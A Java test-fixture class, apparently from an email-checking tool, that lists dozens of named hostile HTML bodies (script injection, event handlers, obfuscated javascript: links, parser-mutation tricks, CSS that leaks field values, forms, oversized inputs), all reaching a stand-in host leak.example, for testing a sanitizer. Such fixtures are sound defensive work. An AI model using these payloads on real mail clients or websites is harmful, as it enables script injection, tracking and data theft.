package dev.mailcheckup.message.mime;

import java.util.LinkedHashMap;
import java.util.Map;

/**
 * HTML bodies that try to load, run, send or lead away, by name. Whatever they reach for is at
 * {@value #LEAK} or at a relative address that begins with {@code leak}; whatever they run sets
 * {@code window.ran}.
 */
public final class HostileHtml {

    public static final String LEAK = "https://leak.example/";

    private static final String RUN = "window.ran=1;top.ran=1;fetch('https://leak.example/run')";

    private HostileHtml() {}

    public static Map<String, String> all() {
        Map<String, String> all = new LinkedHashMap<>();
        scripts(all);
        addresses(all);
        styles(all);
        loads(all);
        navigation(all);
        mutations(all);
        texts(all);
        sizes(all);
        all.replaceAll((name, html) -> html.replace("RUN", RUN).replace("LEAK/", LEAK));
        return all;
    }

    private static void scripts(Map<String, String> all) {
        all.put("script", "<script>RUN</script>hello");
        all.put("script from elsewhere", "<script src='LEAK/a.js'></script>hello");
        all.put("script in odd case", "<ScRiPt >RUN</sCrIpT >hello");
        all.put("unclosed script", "hello<script>RUN");
        all.put("module script", "<script type=module>RUN</script>hello");
        all.put("image error handler", "<img src=leak-x onerror=\"RUN\">hello");
        all.put("body load handler", "<body onload=\"RUN\" onpageshow=\"RUN\">hello</body>");
        all.put("svg load handler", "<svg onload=\"RUN\"><g onload=\"RUN\"/></svg>hello");
        all.put("handler after a slash", "<img/src=leak-x/onerror=\"RUN\">hello");
        all.put("handler with a line feed", "<img src=leak-x onerror\n=\n\"RUN\">hello");
        all.put("details toggle", "<details open ontoggle=\"RUN\">hello</details>");
        all.put("autofocus handler", "<input autofocus onfocus=\"RUN\">hello");
        all.put(
                "animation handler",
                "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=\"RUN\">hello");
        all.put("marquee", "<marquee onstart=\"RUN\">hello</marquee>");
        all.put("video error handler", "<video><source onerror=\"RUN\" src=leak-v></video>hello");
        all.put(
                "popover handler",
                "<button popovertarget=p onbeforetoggle=\"RUN\">x</button><p id=p popover>hello");
    }

    private static void addresses(Map<String, String> all) {
        all.put("javascript link", "<a href=\"javascript:RUN\">hello</a>");
        all.put("javascript in entities", "<a href=\"&#106;&#x61;vascript&colon;RUN\">hello</a>");
        all.put("javascript with tabs", "<a href=\"java\tscr\nipt:RUN\">hello</a>");
        all.put("javascript after controls", "<a href=\"\u0001 javascript:RUN\">hello</a>");
        all.put("vbscript link", "<a href=\"vbscript:RUN\">hello</a>");
        all.put("data page link", "<a href=\"data:text/html,<script>RUN</script>\">hello</a>");
        all.put("quote in a link", "<a href='LEAK/\"><script>RUN</script>'>hello</a>");
        all.put(
                "link that opens itself",
                "<a href='LEAK/a' ping='LEAK/ping' download target=_top>hello</a>");
        all.put(
                "area",
                "<map name=m><area href='LEAK/a' coords='0,0,999,999'></map><img usemap=#m src=leak-m>hello");
        all.put(
                "svg link",
                "<svg><a xlink:href=\"javascript:RUN\"><text y=20>hello</text></a></svg>");
        all.put(
                "math link",
                "<math><maction actiontype='statusline' xlink:href=\"javascript:RUN\">hello</maction></math>");
    }

    private static void styles(Map<String, String> all) {
        all.put(
                "style sheet import",
                "<style>@import 'LEAK/a.css'; @import url(LEAK/b.css);</style>hello");
        all.put(
                "font",
                "<style>@font-face{font-family:f;src:url(LEAK/f.woff)}p{font-family:f}</style><p>hello");
        all.put("background in a style", "<p style=\"background:url('LEAK/b.png')\">hello");
        all.put(
                "style with escapes",
                "<p style=\"background:u\\72l(LEAK/e.png);-moz-binding:url(LEAK/x)\">hello");
        all.put(
                "style expression",
                "<p style=\"width:expression(RUN);behavior:url(leak.htc)\">hello");
        all.put(
                "style that reads a field",
                "<style>input[value^=a]{background:url(LEAK/a)}</style><input value=abc>hello");
        all.put("style over the page", "<div style='position:fixed;inset:0;z-index:9'>hello</div>");
        all.put(
                "closing our style",
                "</style></head><style>*{background:url(LEAK/c)}</style>hello");
        all.put(
                "background attribute",
                "<table background='LEAK/t.png'><td background=leak-t>hello</table>");
        all.put(
                "style set image",
                "<p style=\"list-style-image:image-set('LEAK/i.png' 1x);cursor:url(LEAK/c.cur),auto\">hello");
    }

    private static void loads(Map<String, String> all) {
        all.put("picture", "<img src='LEAK/p.png'>hello<img src=//leak.example/q.png>");
        all.put(
                "picture set",
                "<picture><source srcset='LEAK/s.png 1x'><img srcset='LEAK/t.png 2x, leak-u 3x' sizes=1px></picture>hello");
        all.put(
                "link to a style sheet",
                "<link rel=stylesheet href='LEAK/l.css'><link rel=preload as=image href='LEAK/m.png'><link rel=prefetch href=leak-n><link rel=dns-prefetch href=//leak.example>hello");
        all.put(
                "frame",
                "<iframe src='LEAK/f'></iframe><iframe srcdoc=\"<script>RUN</script>\"></iframe>hello");
        all.put("frame set", "<frameset><frame src='LEAK/f'></frameset>");
        all.put(
                "object and embed",
                "<object data='LEAK/o'><embed src='LEAK/e'></object><applet code=leak-a></applet>hello");
        all.put(
                "video and sound",
                "<video autoplay poster='LEAK/v.png' src='LEAK/v.mp4'></video><audio autoplay src='LEAK/a.mp3'></audio><track src=leak-t>hello");
        all.put(
                "svg that loads",
                "<svg><image href='LEAK/i.svg'/><use href='LEAK/u.svg#x'/><feImage href='LEAK/j.svg'/><style>@import 'LEAK/k.css'</style></svg>hello");
        all.put(
                "svg as data",
                "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'><image href='LEAK/d.png'/></svg>\">hello");
        all.put(
                "svg named a png",
                "<img src='data:image/png;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icmFuPTEiLz4='>hello");
        all.put(
                "quote in a data picture",
                "<img src='data:image/png;base64,AAAA\" onerror=\"RUN'>hello");
        all.put(
                "quote in an alternative text",
                "<img src=leak-q alt='\"><script>RUN</script>'>hello");
        all.put("input picture", "<input type=image src='LEAK/i.png'>hello");
        all.put(
                "manifest and base",
                "<html manifest=leak.appcache><base href='LEAK/'><img src=x.png>hello");
    }

    private static void navigation(Map<String, String> all) {
        all.put("meta refresh", "<meta http-equiv=refresh content='0;url=LEAK/r'>hello");
        all.put(
                "meta policy",
                "<meta http-equiv=Content-Security-Policy content='img-src *'><img src='LEAK/p'>hello");
        all.put("meta cookie", "<meta http-equiv=Set-Cookie content='leak=1'>hello");
        all.put(
                "form",
                "<form action='LEAK/f' id=f><input name=p type=password><button>go</button><input type=submit formaction='LEAK/g'></form>hello");
        all.put(
                "form that sends itself",
                "<form action='LEAK/f'></form><script>document.forms[0].submit()</script>hello");
        all.put(
                "field outside its form",
                "<input form=f formaction=javascript:RUN type=submit>hello");
        all.put(
                "name of a page's part",
                "<a id=location name=cookie>hello</a><form name=body id=head></form>");
        all.put(
                "dialog and slot",
                "<dialog open>hello</dialog><slot name=x></slot><template shadowrootmode=open><script>RUN</script></template>");
    }

    /** Markup that one parser reads in one way and the next in another. */
    private static void mutations(Map<String, String> all) {
        all.put(
                "noscript",
                "<noscript><p title=\"</noscript><img src=leak-n onerror='RUN'>\">hello</noscript>");
        all.put("template", "<template><img src=leak-t onerror=\"RUN\"></template><p>hello");
        all.put(
                "svg style",
                "<svg></p><style><a id=\"</style><img src=leak-1 onerror='RUN'>\">hello");
        all.put(
                "math and table",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=leak-1 onerror='RUN'&gt;\">hello");
        all.put(
                "form in a form",
                "<form><math><mtext></form><form><mglyph><style></math><img src=leak-2 onerror='RUN'>hello");
        all.put(
                "title in svg",
                "<svg><title><style><img src=leak-3 onerror='RUN'></style></title></svg>hello");
        all.put(
                "foreign object",
                "<svg><foreignObject><iframe srcdoc=\"<script>RUN</script>\"></iframe></foreignObject></svg>hello");
        all.put("select", "<select><style></select><img src=leak-4 onerror='RUN'></style>hello");
        all.put(
                "text area",
                "<textarea></textarea ><img src=leak-5 onerror='RUN'>hello<textarea><script>RUN");
        all.put("plain text", "<plaintext>hello<script>RUN</script>");
        all.put(
                "xmp and listing",
                "<xmp><script>RUN</script></xmp><listing><img src=leak-6 onerror='RUN'></listing>hello");
        all.put(
                "no embed",
                "<noembed><img title='</noembed><img src=leak-7 onerror=RUN>'></noembed>hello");
        all.put(
                "comment that ends early",
                "<!--><img src=leak-8 onerror=\"RUN\">-->hello<!--!><img src=leak-9 onerror=\"RUN\">");
        all.put(
                "conditional comment",
                "<!--[if gte mso 9]><script>RUN</script><v:shape src='LEAK/v'/><![endif]-->hello");
        all.put(
                "cdata and processing",
                "<![CDATA[<script>RUN</script>]]><?xml-stylesheet href='LEAK/x.xsl'?>hello");
        all.put(
                "xml names",
                "<html xmlns:x='http://www.w3.org/1999/xhtml'><x:script>RUN</x:script><v:imagedata src='LEAK/v.png'/>hello");
        all.put(
                "null in a tag",
                "<scr\u0000ipt>RUN</scr\u0000ipt><img src=leak-0 one\u0000rror=\"RUN\">hello");
        all.put("back ticks", "<img src=`leak-x` onerror=`RUN`>hello");
        all.put(
                "entities written twice",
                "&lt;script&gt;RUN&lt;/script&gt; &amp;lt;img src=leak-y onerror=RUN&amp;gt; hello");
    }

    private static void texts(Map<String, String> all) {
        all.put("turned letters", "<p>\u202eolleh\u202c \u2066x\u2069 hello");
        all.put("lone surrogates", "<p>\ud800 hello \udc00</p>");
        all.put("line separators", "<p>a\u2028b\u2029c\u0085d hello</p>");
        all.put("utf-7", "+ADw-script+AD4-RUN+ADw-/script+AD4- hello");
    }

    private static void sizes(Map<String, String> all) {
        all.put("deep", "<div>".repeat(50_000) + "hello");
        all.put("deep formatting", "<b><i><u>".repeat(10_000) + "hello");
        all.put("deep links", "<a href='LEAK/d'>x".repeat(5_000) + "hello");
        all.put("wide", "<td>hello" + "<td>x".repeat(100_000));
        all.put("long text", "hello" + "<p>word ".repeat(200_000));
        all.put("many hidden", "hello" + "<p>x</p><p style='display:none'>secret".repeat(5_000));
        all.put("many attributes", "<p " + "a='b' ".repeat(50_000) + ">hello");
    }
}
